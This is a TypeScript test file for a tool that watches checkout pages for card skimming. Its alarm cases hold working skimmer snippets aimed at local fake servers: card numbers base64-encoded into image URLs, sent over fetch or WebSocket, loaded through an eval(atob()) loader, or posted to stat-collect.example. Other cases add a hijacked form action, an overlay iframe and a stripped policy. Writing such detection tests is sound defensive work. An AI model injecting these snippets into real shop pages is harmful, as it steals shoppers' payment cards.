import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Change, changes, type Inventory, merged } from '#core/payment-page';
import { createNet } from '#kit/net/create-net';
import { startWebServer, type WebServer } from '../../../test/fakes/web-server.ts';
import { inBrowser } from '../browser/visit.ts';
import { look } from './look.ts';

/** Other companies: of payment, of statistics, and of thieves. Each is a host of its own by its port. */
let [pay, stats, thief]: WebServer[] = [];
let shop: WebServer;
let page: (visit: number) => string;
let files: Record<string, string>;
let policy: string | null;

// Weak, as those of most shops are, so that it is not the policy that keeps the thieves out.
const usualPolicy = "script-src 'self' 'unsafe-inline' 'unsafe-eval' http:; form-action 'self'";
const own = () => ({
  '/theme.js': themeOf('1.0.3'),
  '/field.js':
    "document.querySelector('[name=card_number]').addEventListener('input', (e) => { if (e.target.value.length > 16) e.target.title = 'too long'; });",
});
const themeOf = (version: string) => `/*! theme ${version} */ window.theme = '${version}'; fetch('/cart.json');`;
const form = (inside = '', action = '/pay') =>
  `<form action="${action}" method="post"><label>Card <input name="card_number" autocomplete="cc-number"></label><label>Code <input name="cvc" autocomplete="cc-csc"></label>${inside}<button>Pay</button></form>`;
const usual =
  (more = '', payForm = form()) =>
  (visit: number) =>
    `<!doctype html><meta charset=utf-8><title>Checkout</title>${payForm}
<script nonce="n${visit}x9f">window.dataLayer = [{ id: ${visit}, token: "a8f3c${visit}e77b1c9d0f" }];</script>
<script src="/theme.js?v=${visit}"></script><script src="/field.js"></script>
<script src="${pay!.origin}/v3/pay.js"></script><iframe src="${pay!.origin}/frame"></iframe>
<script src="${stats!.origin}/tag.js?id=1"></script>${more}`;

const foreign = (answers: Record<string, string>) =>
  startWebServer((request, response) => {
    const text = answers[request.url!.replace(/\?.*/, '')] ?? 'void 0;';
    response
      .writeHead(200, {
        'content-type': request.url!.includes('.js') ? 'text/javascript' : 'text/html',
        'access-control-allow-origin': '*',
      })
      .end(text);
  });

beforeAll(async () => {
  pay = await foreign({ '/v3/pay.js': 'window.pay = 3;', '/frame': 'a field of the bank' });
  stats = await foreign({ '/tag.js': "navigator.sendBeacon(new URL('/hit', document.currentScript.src), 'page')" });
  thief = await foreign({
    '/s.js':
      "window.stolen = 1; document.querySelector('[name=card_number]').addEventListener('blur', (e) => { new Image().src = '//' + new URL(document.currentScript?.src ?? 'http://THIEF').host + '/i?d=' + btoa(e.target.value); });",
  });
  shop = await startWebServer((request, response) => {
    const path = request.url!.replace(/\?.*/, '');
    if (path === '/checkout') {
      response.writeHead(200, {
        'content-type': 'text/html',
        ...(policy ? { 'content-security-policy': policy } : {}),
      });
      return void response.end(page(++visits));
    }
    const text = files[path];
    response
      .writeHead(text === undefined ? 404 : 200, {
        'content-type': path.endsWith('.js') ? 'text/javascript' : 'text/html',
      })
      .end(text ?? '');
  });
});
let visits = 0;
afterAll(() => Promise.all([pay!, stats!, thief!, shop].map((web) => web.close())));

const net = createNet({ allowPrivate: true, ownPorts: [] }, '/dev/null');
async function seen(): Promise<Inventory> {
  const { inventory } = await inBrowser({ net, signal: new AbortController().signal, timeoutMs: 50_000 }, (visit) =>
    look(visit, { kind: 'checkout', url: `${shop.origin}/checkout` }),
  );
  expect(inventory).not.toBeNull();
  return inventory!;
}
const nobody = { scripts: new Set<string>(), hosts: new Set<string>(), cards: new Set<string>() };
let known: Inventory;
beforeAll(async () => {
  [page, files, policy] = [usual(), own(), usualPolicy];
  known = merged([await seen(), await seen()]);
});
async function after(change: () => void): Promise<Change[]> {
  [page, files, policy] = [usual(), own(), usualPolicy];
  change();
  return changes(known, await seen(), nobody);
}
const grave = (found: Change[]) =>
  found.filter(({ weight }) => weight !== 'note').map(({ kind, weight }) => `${weight} ${kind}`);

test('an inventory: own and foreign scripts, what stands in the page, frames, forms, who listens to the card', () => {
  const local = (text: string) =>
    text
      .replaceAll(shop.origin, '')
      .replaceAll(new URL(shop.origin).host, 'shop')
      .replaceAll(new URL(pay!.origin).host, 'pay')
      .replaceAll(new URL(stats!.origin).host, 'stats');
  expect(
    known.scripts
      .map(({ id }) => local(id))
      .filter((id) => !id.startsWith('inline:'))
      .sort(),
  ).toEqual(['pay/v3/pay.js', 'shop/field.js', 'shop/theme.js', 'stats/tag.js']);
  const inline = known.scripts.filter(({ kind }) => kind === 'inline').map(({ start }) => start.slice(0, 16));
  expect(inline).toEqual(['window.dataLayer']);
  expect(known.frames.map(({ host }) => local(host))).toEqual(['pay']);
  expect(known.forms).toMatchObject([{ card: true }]);
  expect(known.listeners.map(({ script, event }) => `${local(script)} ${event}`).sort()).toEqual([
    'shop/field.js input',
    'shop/field.js read',
  ]);
  expect(known.leaks).toEqual([]);
  expect(known.overlays).toEqual([]);
});

const quiet: [string, () => void][] = [
  ['nothing but the visit is another', () => undefined],
  ['a new version of the theme', () => (files['/theme.js'] = themeOf('1.1.0'))],
  [
    'tags in another order',
    () =>
      (page = (visit) =>
        usual()(visit).replace('<script src="/field.js"></script>', '') + '<script src="/field.js"></script>'),
  ],
  [
    'a cache buster at the tag of statistics',
    () => (page = (visit) => usual()(visit).replace('tag.js?id=1', `tag.js?id=1&_=${visit}`)),
  ],
  [
    'one more event of statistics',
    () =>
      (page = usual(
        `<script src="/theme.js"></script><script nonce="q">window.dataLayer = [{ id: 77, token: "b7d9e8f7a6b5c4d3e2" }];</script>`,
      )),
  ],
  ['a picture from a new host', () => (page = usual(`<img src="${thief!.origin}/product.png" alt="">`))],
  ['the theme is minified in another way', () => (files['/theme.js'] = "window.theme='1.0.3',fetch('/cart.json')")],
  [
    'statistics are gone',
    () => (page = (visit) => usual()(visit).replace(/<script src="[^"]*tag\.js[^>]*><\/script>/, '')),
  ],
  ['a stricter policy', () => (policy = `${usualPolicy}; base-uri 'self'`)],
  ['the form has one more field', () => (page = usual('', form('<input name="name_on_it">')))],
];
test.each(quiet)('no alarm: %s', async (_, change) => {
  expect(grave(await after(change))).toEqual([]);
});

const stolen = 'document.querySelector("[name=card_number]").value';
const thieves: [string, () => void, string[]][] = [
  [
    'a tag brings in a script of a stranger, which sends the card as a picture',
    () => {
      files['/theme.js'] =
        `${themeOf('1.0.3')} const s = document.createElement('script'); s.src = '${thief!.origin}/s.js'; document.head.append(s);`;
    },
    ['alarm script_host_new', 'alarm listener_new'],
  ],
  [
    'a web socket carries the card away',
    () =>
      (files['/theme.js'] =
        `${themeOf('1.0.4')} const w = new WebSocket('${thief!.origin.replace('http', 'ws')}/w?' + location.pathname); document.addEventListener('focusout', () => { fetch('${thief!.origin}/ws', { method: 'POST', mode: 'no-cors', body: ${stolen} }); });`),
    ['alarm card_leaves', 'alarm listener_new'],
  ],
  [
    'a loader in base64 in the page, which hides where it sends to',
    () => {
      const code = `document.querySelector('form').addEventListener('change', () => { new Image().src = '${thief!.origin}/p.gif?x=' + btoa(${stolen}) })`;
      page = usual(
        `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="eval(atob('${Buffer.from(code).toString('base64')}'))" alt="">`,
      );
    },
    ['alarm card_leaves', 'alarm listener_new'],
  ],
  [
    'a script in the page waits for the sending of the form, which nobody does here',
    () =>
      (page = usual(
        `<script>document.addEventListener('submit', function () { new Image().src = 'https://stat-collect.example/g?d=' + btoa(${stolen}) }, true);</script>`,
      )),
    ['alarm script_malicious'],
  ],
  ['the form is sent to a stranger', () => (page = usual('', form('', `${thief!.origin}/pay`))), ['alarm form_moved']],
  [
    'a frame of a stranger lies over the fields',
    () =>
      (page = usual(
        `<iframe src="${thief!.origin}/frame" style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>`,
      )),
    ['alarm frame_new', 'alarm overlay_new'],
  ],
  [
    'the policy lets forms go anywhere',
    () => (policy = usualPolicy.replace("form-action 'self'", 'form-action *')),
    ['alarm policy_weakened'],
  ],
  ['the policy is gone', () => (policy = null), ['alarm policy_weakened']],
];
test.each(thieves)('an alarm: %s', async (_, change, expected) => {
  const found = grave(await after(change));
  expect(found).toEqual(expect.arrayContaining(expected));
});
